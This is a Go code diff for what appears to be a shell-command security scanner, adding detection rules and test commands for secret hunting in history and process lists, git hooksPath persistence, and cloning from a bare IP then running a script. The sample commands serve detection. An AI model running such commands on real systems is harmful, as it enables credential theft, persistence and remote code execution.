@@ -1,6 +1,7 @@
 package commands
 
 import (
+	"net"
 	"net/url"
 	"path"
 	"regexp"
@@ -14,13 +15,14 @@ import (
 var posixFlowRules = []*rule{
 	{
 		ID: "history-secret-hunt", Class: "credential access", Sev: high,
-		Msg: "searches the shell history for passwords, tokens or keys (ATT&CK T1552.003)",
+		Msg: "searches the shell history or other processes' command lines for passwords, tokens or keys (ATT&CK T1552.003)",
 		Must: []string{
 			"cat ~/.*history | grep -Ei 'pass|token'",
 			"history | grep -i password",
 			"tail -n 500 /home/bob/.zsh_history | egrep 'secret|api_key'",
+			"ps -ef | grep -i password",
 		},
-		MustNot: []string{"history | grep git", "cat ~/.bash_history | grep docker", "grep -i password config/app.yml"},
+		MustNot: []string{"history | grep git", "cat ~/.bash_history | grep docker", "grep -i password config/app.yml", "ps aux | grep node"},
 		check:   checkHistorySecretHunt,
 	},
 	{
@@ -191,6 +193,20 @@ var posixFlowRules = []*rule{
 		check:   checkReleaseAgent,
 	},
 	{
+		ID: "git-hooks-path-staged", Class: "persistence", Sev: high,
+		Msg:     "points git's hooks at a temporary, shared or hidden folder, so every git command in every repository runs scripts from there (ATT&CK T1546)",
+		Must:    []string{"git config --global core.hooksPath /tmp/hooks", "git config --system core.hooksPath /var/tmp/.h"},
+		MustNot: []string{"git config core.hooksPath .githooks", "git config --global core.hooksPath ~/.config/git/hooks"},
+		check:   checkGitHooksPath,
+	},
+	{
+		ID: "clone-then-run", Class: "download and execute", Sev: high,
+		Msg:     "clones a repository from a bare address and runs a script from it (ATT&CK T1105)",
+		Must:    []string{"git clone https://198.51.100.40/tools.git /tmp/t && bash /tmp/t/run.sh", "git clone http://192.0.2.141/x.git && ./x/install.sh"},
+		MustNot: []string{"git clone https://198.51.100.40/docs.git /tmp/d && ls /tmp/d", "git clone https://github.com/org/repo && cd repo && make"},
+		check:   checkCloneThenRun,
+	},
+	{
 		ID: "cloud-secrets-harvest", Class: "credential access", Sev: high,
 		Msg: "lists a cloud account's secrets and fetches every one of them (ATT&CK T1555.006)",
 		Must: []string{
@@ -228,7 +244,8 @@ func grepsFor(c *call, re *regexp.Regexp) bool {
 }
 
 func checkHistorySecretHunt(c *call, _ *config) *hit {
-	if c.name == "history" || c.name == "fc" && hasFlag(c, "l") {
+	// ps -ef | grep -i password: passwords typed on other processes' command lines.
+	if c.name == "history" || c.name == "fc" && hasFlag(c, "l") || c.name == "ps" {
 		if grepsFor(c, secretWordRe) {
 			return c.rule()
 		}
@@ -806,4 +823,75 @@ func checkReleaseAgent(c *call, _ *config) *hit {
 		}
 	}
 	return nil
+}
+
+func checkGitHooksPath(c *call, _ *config) *hit {
+	if c.name != "git" {
+		return nil
+	}
+	args := c.args()
+	for i, a := range args {
+		v := ""
+		switch {
+		case strings.EqualFold(a, "core.hooksPath") && i+1 < len(args):
+			v = args[i+1]
+		case strings.HasPrefix(strings.ToLower(a), "core.hookspath="):
+			v = a[len("core.hookspath="):]
+		}
+		if v == "" {
+			continue
+		}
+		n := normPath(v)
+		if strings.HasPrefix(n, "/tmp/") || strings.HasPrefix(n, "/var/tmp/") || strings.HasPrefix(n, "/dev/shm") || strings.HasPrefix(n, "/users/shared/") ||
+			strings.HasPrefix(n, "/Users/Shared/") || n == "/tmp" || strings.Contains(n, "/.") && !strings.HasPrefix(n, "~/.config/") && !strings.HasPrefix(n, "~/.git") {
+			return c.rule()
+		}
+	}
+	return nil
+}
+
+// checkCloneThenRun: git clone from a bare IP address or plain http, and a
+// later command of the text runs a file inside the clone.
+func checkCloneThenRun(c *call, _ *config) *hit {
+	if c.name != "git" || c.arg(1) != "clone" {
+		return nil
+	}
+	ops := operands(c, "-b -o -c --branch --origin --depth --config --reference --separate-git-dir -j --jobs")
+	if len(ops) < 2 {
+		return nil
+	}
+	u := ops[1]
+	h := urlHost(u)
+	if !strings.HasPrefix(u, "http://") && !isIPHost(h) {
+		return nil
+	}
+	dir := strings.TrimSuffix(path.Base(strings.TrimSuffix(u, "/")), ".git")
+	if len(ops) > 2 {
+		dir = ops[2]
+	}
+	dir = strings.TrimPrefix(normPath(dir), "./")
+	seen := false
+	for _, o := range c.a.calls {
+		if o == c {
+			seen = true
+			continue
+		}
+		if !seen {
+			continue
+		}
+		x := strings.TrimPrefix(normPath(executes(o)), "./")
+		if x != "" && strings.HasPrefix(x, dir+"/") {
+			return c.rule()
+		}
+	}
+	return nil
+}
+
+// isIPHost reports a host written as an IPv4 or IPv6 address, with or
+// without a port.
+func isIPHost(h string) bool {
+	if host, _, err := net.SplitHostPort(h); err == nil {
+		h = host
+	}
+	return net.ParseIP(strings.Trim(h, "[]")) != nil
 }
